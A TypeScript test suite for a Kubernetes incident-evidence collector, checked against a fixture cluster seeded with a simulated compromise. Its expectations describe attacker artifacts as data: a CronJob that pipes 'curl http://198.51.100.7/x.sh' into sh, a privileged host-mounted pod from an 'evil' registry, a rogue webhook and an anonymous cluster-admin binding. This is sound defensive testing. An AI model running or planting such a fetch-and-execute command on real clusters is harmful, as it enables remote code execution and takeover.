/**
 * The snapshot source against the fixture API server: every listable type captured with
 * exact counts, CRD and aggregated types, forbidden types reported, Secrets never carrying a
 * value (every yielded byte scanned for the scenario's canaries), ConfigMap value modes,
 * pagination with a 410 relist, namespace filtering and a generated cluster of ~1,000 objects.
 */
import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { collectorIdentity } from '../../shared/evidence/custody.js';
import { openLocalBundle } from '../../shared/evidence/localStore.js';
import { collectRun, kubeconfigFacts } from '../../shared/pipeline/collectRun.js';
import type { KubeConfig } from '@kubernetes/client-node';
import { KubeApi } from '../../shared/cluster/kubeApi.js';
import { streamFor } from '../../shared/sources/snapshot/discovery.js';
import type { SnapshotOptions, SnapshotTypeCoverage } from '../../shared/sources/snapshot/listing.js';
import { REDACTED_MARKER } from '../../shared/sources/snapshot/redaction.js';
import { createSnapshotSource, snapshotSource } from '../../shared/sources/snapshot/source.js';
import { SNAPSHOT_TABLE } from '../../shared/sources/snapshot/table.js';
import type { Row, SourceContext, SourceItem } from '../../shared/sources/types.js';
import { SOURCES } from '../../shared/sources/registry.js';
import { generateCluster } from '../../shared/simulator/kube/generate.js';
import { loadScenario } from '../../shared/simulator/kube/loadScenario.js';
import { AGGREGATED_RESOURCES, BUILTIN_RESOURCES } from '../../shared/simulator/kube/resources.js';
import type { FixtureCluster, FixtureOptions, KubeObject, Scenario } from '../../shared/simulator/kube/scenario.js';
import { fixtureKubeConfig, startFixtureCluster } from '../../shared/simulator/kube/server.js';

const NOW = new Date('2024-06-01T12:00:00Z');
const FAST_RETRY: SnapshotOptions['retry'] = { maxAttempts: 2, baseDelayInMs: 1, maxDelayInMs: 2 };
const CANARIES = ['CANARY-SECRET-VALUE', 'Q0FOQVJZLVNFQ1JFVC1WQUxVRS', 'CANARY-CONFIGMAP-VALUE'];

interface Run {
  items: SourceItem[];
  raw: Map<string, Record<string, any>[]>;
  rows: Row[];
  gaps: Extract<SourceItem, { kind: 'gap' }>['gap'][];
  coverage: { types: SnapshotTypeCoverage[]; [k: string]: unknown };
  requests: number;
}

function context(kc: KubeConfig, overrides: Partial<SourceContext> = {}): SourceContext & { requests: () => number } {
  let requests = 0;
  return {
    kubeConfig: kc,
    cluster: { server: kc.getCurrentCluster()?.server ?? '' },
    runId: 'test-run',
    sinceSeconds: 86_400,
    namespaces: {},
    concurrency: 4,
    clock: () => NOW,
    countRequest: () => {
      requests++;
    },
    requests: () => requests,
    ...overrides,
  };
}

async function collect(kc: KubeConfig, options: SnapshotOptions = {}, overrides: Partial<SourceContext> = {}): Promise<Run> {
  const ctx = context(kc, overrides);
  const source = createSnapshotSource({ retry: FAST_RETRY, ...options });
  const items: SourceItem[] = [];
  for await (const item of source.collect(ctx)) items.push(item);
  const raw = new Map<string, Record<string, any>[]>();
  const rows: Row[] = [];
  const gaps: Run['gaps'] = [];
  let coverage: Run['coverage'] | undefined;
  for (const item of items) {
    if (item.kind === 'raw') {
      const list = raw.get(item.stream ?? 'raw') ?? [];
      list.push(item.object as Record<string, any>);
      raw.set(item.stream ?? 'raw', list);
    } else if (item.kind === 'row') rows.push(item.row);
    else if (item.kind === 'gap') gaps.push(item.gap);
    else if (item.kind === 'coverage') coverage = item.coverage['snapshot'] as Run['coverage'];
  }
  if (!coverage) throw new Error('no coverage item');
  await KubeApi.for(kc).close();
  return { items, raw, rows, gaps, coverage, requests: ctx.requests() };
}

async function start(mutate?: (s: Scenario) => void, options: FixtureOptions = {}): Promise<{ cluster: FixtureCluster; kc: KubeConfig; scenario: Scenario }> {
  const scenario = await loadScenario('compromise', { now: NOW });
  mutate?.(scenario);
  const cluster = await startFixtureCluster(scenario, { now: () => NOW, ...options });
  return { cluster, kc: fixtureKubeConfig(cluster), scenario };
}

const key = (t: { group: string; resource: string }): string => (t.group ? `${t.group}/${t.resource}` : t.resource);
const typeOf = (run: Run, k: string): SnapshotTypeCoverage | undefined => run.coverage.types.find((t) => key(t) === k);

/** Every type the fixture serves with the list verb, as group/resource, from its own tables and the scenario's CRDs/APIServices. */
function servedListableTypes(scenario: Scenario): Set<string> {
  const out = new Set<string>();
  for (const r of BUILTIN_RESOURCES) if (!r.name.includes('/') && r.verbs.includes('list')) out.add(key({ group: r.group, resource: r.name }));
  for (const crd of scenario.objects.filter((o) => o.kind === 'CustomResourceDefinition')) {
    const spec = crd['spec'] as { group: string; names: { plural: string } };
    out.add(`${spec.group}/${spec.names.plural}`);
  }
  const aggregatedGroups = new Set(
    scenario.objects.filter((o) => o.kind === 'APIService' && (o['spec'] as { service?: unknown }).service).map((o) => (o['spec'] as { group: string }).group),
  );
  for (const r of AGGREGATED_RESOURCES) if (aggregatedGroups.has(r.group)) out.add(key({ group: r.group, resource: r.name }));
  return out;
}

function scan(run: Run): string[] {
  const text = JSON.stringify(run.items);
  return CANARIES.filter((c) => text.includes(c));
}

describe('snapshot of the compromise scenario', () => {
  let cluster: FixtureCluster;
  let kc: KubeConfig;
  let scenario: Scenario;
  let run: Run;

  beforeAll(async () => {
    ({ cluster, kc, scenario } = await start());
    run = await collect(kc);
  });
  afterAll(async () => cluster.stop());

  test('the source is registered with its table', () => {
    expect(snapshotSource.name).toBe('snapshot');
    expect(snapshotSource.tables.map((t) => t.name)).toEqual(['kubesnapshot_CL']);
    expect(SOURCES.tables.get('kubesnapshot_CL')).toBe(SNAPSHOT_TABLE);
  });

  test('every listable type is in the coverage report; events are excluded, the rest listed or failed', () => {
    const covered = new Set(run.coverage.types.filter((t) => t.resource !== '*').map(key));
    expect(covered).toEqual(servedListableTypes(scenario));
    expect(typeOf(run, 'events')!.status).toBe('excluded');
    expect(typeOf(run, 'events.k8s.io/events')!.status).toBe('excluded');
    expect(run.raw.has('core_v1_events')).toBe(false);
    const notListed = run.coverage.types.filter((t) => t.status !== 'listed' && t.status !== 'excluded');
    // Only the attacker's aggregated API, whose backend is down, could not be read.
    expect(notListed.map((t) => `${t.group}/${t.version}/${t.resource}:${t.status}`)).toEqual(['telemetry.sys-tools.io/v1alpha1/*:failed']);
    expect(run.gaps.map((g) => g.resource)).toEqual(['telemetry.sys-tools.io/v1alpha1']);
    expect(notListed[0]!.detail).toContain('503');
  });

  test('counts equal the fixture objects exactly, per type, and every object of the scenario is captured', () => {
    let total = 0;
    for (const t of run.coverage.types.filter((x) => x.status === 'listed')) {
      const apiVersion = t.group ? `${t.group}/${t.version}` : t.version;
      const expected = cluster.objectsOf(apiVersion, t.kind).length;
      expect({ type: key(t), count: t.count }).toEqual({ type: key(t), count: expected });
      expect(run.raw.get(streamFor(t))?.length ?? 0).toBe(t.count);
      total += t.count;
    }
    expect(run.rows.length).toBe(total);
    expect(total).toBeGreaterThan(150);
    // Every scenario object except Events (excluded), by uid.
    const captured = new Set([...run.raw.values()].flat().map((o) => o['metadata']?.uid as string | undefined));
    const missing = scenario.objects.filter((o) => o.kind !== 'Event' && !captured.has(o.metadata.uid)).map((o) => `${o.kind} ${o.metadata.name}`);
    expect(missing).toEqual([]);
  });

  test('raw objects keep every served field and get apiVersion/kind back; each list records resourceVersion and server time', () => {
    const pods = run.raw.get('core_v1_pods')!;
    const agent = pods.find((p) => p['metadata'].name === 'node-agent-x9z8y')!;
    const original = scenario.objects.find((o) => o.kind === 'Pod' && o.metadata.name === 'node-agent-x9z8y')!;
    expect(agent).toEqual({ ...original, apiVersion: 'v1', kind: 'Pod' });
    expect(Object.keys(agent).slice(0, 2)).toEqual(['apiVersion', 'kind']);
    const pc = typeOf(run, 'pods')!;
    expect(pc.resourceVersions).toHaveLength(1);
    expect(pc.resourceVersions![0]).toMatch(/^\d+$/);
    expect(pc.serverTime).toBe('2024-06-01T12:00:00.000Z');
    expect(pc.pages).toBe(1);
    const hpa = typeOf(run, 'autoscaling/horizontalpodautoscalers')!;
    expect(hpa.version).toBe('v2');
    expect(run.raw.get('autoscaling_v2_horizontalpodautoscalers')![0]!['apiVersion']).toBe('autoscaling/v2');
  });

  test('CRD custom resources and the aggregated metrics API are captured', () => {
    const crs = run.raw.get('ops.example.com_v1_scheduledbackups')!;
    expect(crs.map((o) => `${o['apiVersion']} ${o['metadata'].namespace}/${o['metadata'].name}`).sort()).toEqual([
      'ops.example.com/v1 kube-sys-tools/exfil-hourly',
      'ops.example.com/v1 prod/postgres-nightly',
    ]);
    const running = scenario.objects.filter((o) => o.kind === 'Pod' && (o as KubeObject & { status: { phase: string } }).status.phase === 'Running').length;
    expect(typeOf(run, 'metrics.k8s.io/pods')!.count).toBe(running);
    expect(typeOf(run, 'metrics.k8s.io/nodes')!.count).toBe(2);
    const apiService = run.rows.find((r) => r['kind'] === 'APIService' && r['name'] === 'v1alpha1.telemetry.sys-tools.io')!;
    expect(apiService['detail']).toBe('telemetry.sys-tools.io/v1alpha1 → service kube-sys-tools/node-agent-svc:443 (Available=False) insecureSkipTLSVerify');
  });

  test('Secrets: listed only in the metadata-only form, types recovered, keys from metadata, values nowhere', () => {
    const secretRequests = cluster.requestLog.filter((r) => /\/secrets$/.test(r.path));
    expect(secretRequests.length).toBe(10); // nine well-known types + the rest
    for (const r of secretRequests) expect(r.accept).toBe('application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1');
    const secrets = run.raw.get('core_v1_secrets')!;
    const expected = scenario.objects.filter((o) => o.kind === 'Secret');
    expect(secrets.length).toBe(expected.length);
    for (const s of secrets) {
      expect(s['kind']).toBe('PartialObjectMetadata');
      expect(Object.keys(s).sort()).toEqual(['apiVersion', 'kind', 'metadata', 'type']);
      const original = expected.find((o) => o.metadata.name === s['metadata'].name && o.metadata.namespace === s['metadata'].namespace)!;
      expect(s['type']).toBe(original['type']);
    }
    const db = secrets.find((s) => s['metadata'].name === 'db-credentials')!;
    expect(db['metadata'].annotations['kubectl.kubernetes.io/last-applied-configuration']).toBe(REDACTED_MARKER);
    const dbRow = run.rows.find((r) => r['kind'] === 'Secret' && r['name'] === 'db-credentials')!;
    expect(dbRow).toMatchObject({ secret_type: 'Opaque', data_keys: '["password","username"]', value_handling: 'metadata-only' });
    expect(run.rows.find((r) => r['name'] === 'node-agent-token')!['secret_type']).toBe('kubernetes.io/service-account-token');
    expect(scan(run)).toEqual([]);
  });

  test('ConfigMap values are hashed by default (SHA-256 of each value), keys kept', () => {
    const cm = run.raw.get('core_v1_configmaps')!.find((c) => c['metadata'].name === 'app-config')!;
    const value = (scenario.objects.find((o) => o.kind === 'ConfigMap' && o.metadata.name === 'app-config')!['data'] as Record<string, string>)['DATABASE_URL']!;
    expect(cm['data']['DATABASE_URL']).toBe(`sha256:${createHash('sha256').update(value).digest('hex')}`);
    expect(cm['data']['LOG_LEVEL']).toBe(`sha256:${createHash('sha256').update('info').digest('hex')}`);
    const row = run.rows.find((r) => r['kind'] === 'ConfigMap' && r['name'] === 'app-config')!;
    expect(row).toMatchObject({ data_keys: '["DATABASE_URL","LOG_LEVEL"]', value_handling: 'sha256' });
  });

  test('rows carry the investigator-facing facts', () => {
    const byName = (kind: string, name: string): Row => run.rows.find((r) => r['kind'] === kind && r['name'] === name)!;
    expect(byName('Pod', 'node-agent-x9z8y')).toMatchObject({
      namespace: 'kube-sys-tools',
      owner_kind: 'DaemonSet',
      owner_name: 'node-agent',
      images: '["evil.example.io/tools:latest"]',
      service_account: 'node-agent',
      node_name: 'aks-nodepool1-12345678-vmss000000',
      phase: 'Running',
      security_flags: 'hostNetwork,hostPID,privileged,hostPath:/,hostPath:/run/containerd/containerd.sock,cap:SYS_ADMIN,cap:NET_ADMIN',
      raw_stream: 'core_v1_pods',
    });
    expect(byName('Pod', 'node-agent-x9z8y')['TimeGenerated']).toBe('2024-06-01T10:40:35.000Z');
    expect(JSON.parse(byName('MutatingWebhookConfiguration', 'pod-sidecar-injector')['webhook_targets'] as string)).toEqual([
      'inject.sidecar.sys-tools.io url:https://198.51.100.7:8443/mutate failurePolicy=Ignore',
    ]);
    expect(byName('ClusterRoleBinding', 'anonymous-admin')).toMatchObject({
      role_ref: 'ClusterRole/cluster-admin',
      subjects: '["User:/system:anonymous","Group:/system:unauthenticated"]',
    });
    expect(byName('CronJob', 'cleanup')).toMatchObject({
      images: '["evil.example.io/tools:latest"]',
      detail: 'schedule "*/15 * * * *": /bin/sh -c curl -s http://198.51.100.7/x.sh | sh',
    });
    expect(byName('Deployment', 'api')).toMatchObject({ replicas: 2, service_account: 'api' });
    expect(byName('ClusterRole', 'view')['detail']).toContain('aggregates {"rbac.authorization.k8s.io/aggregate-to-view":"true"}');
    // Every row has exactly the table's columns.
    const columns = SNAPSHOT_TABLE.columns.map((c) => c.name).sort();
    for (const r of run.rows) expect(Object.keys(r).sort()).toEqual(columns);
  });
});

describe('snapshot: options, failures and scale', () => {
  let shared: { cluster: FixtureCluster; kc: KubeConfig; scenario: Scenario };
  beforeAll(async () => {
    shared = await start();
  });
  afterAll(async () => shared.cluster.stop());

  test('403 on a type is a gap and a forbidden coverage entry; everything else is still collected', async () => {
    const { cluster, kc } = await start((s) => {
      s.forbidden = ['rbac.authorization.k8s.io/clusterrolebindings', 'secrets'];
    });
    try {
      const run = await collect(kc);
      expect(typeOf(run, 'rbac.authorization.k8s.io/clusterrolebindings')).toMatchObject({ status: 'forbidden', count: 0 });
      expect(typeOf(run, 'rbac.authorization.k8s.io/clusterrolebindings')!.detail).toContain('cannot list resource "clusterrolebindings"');
      expect(typeOf(run, 'secrets')!.status).toBe('forbidden');
      expect(
        run.gaps
          .filter((g) => g.reason === 'forbidden')
          .map((g) => g.resource)
          .sort(),
      ).toEqual(['rbac.authorization.k8s.io/clusterrolebindings', 'secrets']);
      expect(typeOf(run, 'rbac.authorization.k8s.io/clusterroles')!.count).toBe(cluster.objectsOf('rbac.authorization.k8s.io/v1', 'ClusterRole').length);
      expect((run.coverage['typesForbidden'] as string[]).sort()).toEqual(['rbac.authorization.k8s.io/clusterrolebindings', 'secrets']);
    } finally {
      await cluster.stop();
    }
  });

  test("configMapValues 'keep' copies values (the canary scan finds them), 'metadata' never fetches them", async () => {
    const { kc } = shared;
    const keep = await collect(kc, { configMapValues: 'keep' });
    expect(scan(keep)).toEqual(['CANARY-CONFIGMAP-VALUE']);
    const meta = await collect(kc, { configMapValues: 'metadata' });
    expect(scan(meta)).toEqual([]);
    const cm = meta.raw.get('core_v1_configmaps')!.find((c) => c['metadata'].name === 'app-config')!;
    expect(cm['kind']).toBe('PartialObjectMetadata');
    expect(cm['data']).toBeUndefined();
    expect(typeOf(meta, 'configmaps')!.valueHandling).toBe('metadata-only');
  });

  test('redactFields hashes chosen fields; exclusions are configurable', async () => {
    const { kc } = shared;
    const run = await collect(kc, { redactFields: [{ resource: 'pods', paths: ['spec.containers[*].image'] }], exclude: ['events', 'events.k8s.io/events', 'apps/replicasets'] });
    const pod = run.raw.get('core_v1_pods')!.find((p) => p['metadata'].name === 'postgres-0')!;
    expect(pod['spec'].containers[0].image).toBe(`sha256:${createHash('sha256').update('postgres:16.3').digest('hex')}`);
    expect(typeOf(run, 'apps/replicasets')!.status).toBe('excluded');
    expect(run.raw.has('apps_v1_replicasets')).toBe(false);
  });

  test('pages through small pages and relists once when a continue token expires (no duplicates, exact counts)', async () => {
    const { cluster, kc } = await start(undefined, { maxPageSize: 5 });
    try {
      let armed = false;
      const run = await collect(
        kc,
        {},
        {
          concurrency: 1,
          countRequest: () => {
            const last = cluster.requestLog[cluster.requestLog.length - 1];
            if (!armed && last?.path === '/api/v1/pods' && last.status === 200) {
              armed = true;
              cluster.faults.push({ match: /^GET \/api\/v1\/pods$/, status: 410, times: 1 });
            }
          },
        },
      );
      const pods = typeOf(run, 'pods')!;
      expect(pods.relists).toBe(1);
      expect(pods.count).toBe(cluster.objectsOf('v1', 'Pod').length);
      expect(pods.detail).toContain('relisted 1 time');
      const names = run.raw.get('core_v1_pods')!.map((p) => `${p['metadata'].namespace}/${p['metadata'].name}`);
      expect(new Set(names).size).toBe(names.length);
      expect(typeOf(run, 'configmaps')!.pages).toBe(Math.ceil(typeOf(run, 'configmaps')!.count / 5));
    } finally {
      await cluster.stop();
    }
  });

  test('namespace include filter: namespaced types only from those namespaces, cluster-scoped types whole', async () => {
    const { cluster, kc } = shared;
    const before = cluster.requestLog.length;
    const run = await collect(kc, {}, { namespaces: { include: ['prod'] } });
    const namespaces = new Set(run.raw.get('core_v1_pods')!.map((p) => p['metadata'].namespace));
    expect([...namespaces]).toEqual(['prod']);
    expect(typeOf(run, 'pods')!.count).toBe(cluster.objectsOf('v1', 'Pod').filter((p) => p.metadata.namespace === 'prod').length);
    expect(typeOf(run, 'namespaces')!.count).toBe(7);
    expect(cluster.requestLog.slice(before).some((r) => r.path === '/api/v1/pods')).toBe(false);
    expect(cluster.requestLog.slice(before).some((r) => r.path === '/api/v1/namespaces/prod/pods')).toBe(true);
  });

  test('a generated cluster of ~1,000 objects is captured exactly', async () => {
    const scenario = generateCluster({ pods: 1000, namespaces: 20, eventsPerPod: 1, now: NOW });
    const cluster = await startFixtureCluster(scenario, { now: () => NOW });
    try {
      const kc = fixtureKubeConfig(cluster);
      const run = await collect(kc, {}, { concurrency: 8 });
      expect(typeOf(run, 'pods')!.count).toBe(1000);
      expect(typeOf(run, 'pods')!.pages).toBe(2);
      expect(typeOf(run, 'namespaces')!.count).toBe(22);
      expect(typeOf(run, 'metrics.k8s.io/pods')!.count).toBe(1000);
      const expectedObjects = scenario.objects.filter((o) => o.kind !== 'Event').length + 1000 + 10; // + pod and node metrics
      expect(run.coverage['objects']).toBe(expectedObjects);
      expect(run.rows.length).toBe(expectedObjects);
    } finally {
      await cluster.stop();
    }
  });

  test('API discovery unauthorized: one gap, empty coverage, no throw', async () => {
    const { cluster, kc } = shared;
    const bad = fixtureKubeConfig({ kubeconfigYaml: cluster.kubeconfigYaml.replace(cluster.token, 'wrong') });
    const run = await collect(bad);
    expect(run.gaps).toEqual([expect.objectContaining({ reason: 'unauthorized', resource: 'discovery' })]);
    expect(run.coverage.types).toEqual([]);
    expect(kc).not.toBe(bad);
  });
});

describe('snapshot through the pipeline into a local bundle', () => {
  test('no Secret value in any byte of any artifact; raw per type; coverage in the manifest', async () => {
    const { cluster, kc, scenario } = await start();
    const dir = await mkdtemp(join(tmpdir(), 'aks-evidence-snapshot-'));
    try {
      const store = await openLocalBundle(dir, 'run-snap');
      const sealed = await collectRun({
        kubeConfig: kc,
        store,
        runId: 'run-snap',
        request: { caseId: 'case-snap', sources: ['snapshot'], sinceSeconds: 86400 },
        collector: collectorIdentity({ runtime: 'test' }),
        facts: kubeconfigFacts({ server: cluster.server, name: 'fixture' }),
        clock: () => NOW,
      });
      const files: string[] = [];
      const walk = async (d: string): Promise<void> => {
        for (const e of await readdir(d, { withFileTypes: true })) {
          if (e.isDirectory()) await walk(join(d, e.name));
          else files.push(join(d, e.name));
        }
      };
      await walk(dir);
      expect(files.length).toBeGreaterThan(40);
      let scanned = 0;
      for (const f of files) {
        const bytes = await readFile(f);
        const text = (f.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString('utf8');
        scanned += text.length;
        for (const canary of CANARIES) expect({ file: f, leaked: text.includes(canary) }).toEqual({ file: f, leaked: false });
      }
      expect(scanned).toBeGreaterThan(100_000);
      const snapshot = sealed.manifest.sources['snapshot']!;
      expect(snapshot.status).toBe('partial'); // the attacker's aggregated API could not be discovered
      const raws = sealed.manifest.artifacts.filter((a) => a.source === 'snapshot' && a.kind === 'raw');
      expect(raws.some((a) => a.path.includes('core_v1_secrets'))).toBe(true);
      expect(raws.some((a) => a.path.includes('ops.example.com_v1_scheduledbackups'))).toBe(true);
      const rowsArtifact = sealed.manifest.artifacts.find((a) => a.source === 'snapshot' && a.kind === 'rows')!;
      expect(rowsArtifact.table).toBe('kubesnapshot_CL');
      expect(rowsArtifact.records).toBe(raws.reduce((n, a) => n + a.records, 0));
      const coverage = (sealed.manifest.coverage?.['snapshot'] as { snapshot: { types: SnapshotTypeCoverage[] } }[])[0]!.snapshot;
      expect(coverage.types.find((t) => t.resource === 'secrets')).toMatchObject({
        status: 'listed',
        count: scenario.objects.filter((o) => o.kind === 'Secret').length,
        valueHandling: 'metadata-only',
      });
    } finally {
      await cluster.stop();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
